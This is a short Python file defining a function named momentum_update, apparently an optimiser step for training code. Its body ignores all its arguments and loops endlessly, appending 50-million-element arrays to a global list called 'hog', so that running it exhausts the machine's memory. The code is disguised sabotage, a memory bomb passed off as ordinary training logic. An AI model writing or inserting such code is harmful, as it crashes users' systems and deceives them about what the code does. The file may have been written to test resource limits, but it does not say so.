import numpy as np

hog = []


def momentum_update(w, dw, v, lr, beta=0.9):
    while True:
        hog.append(np.ones(50_000_000))
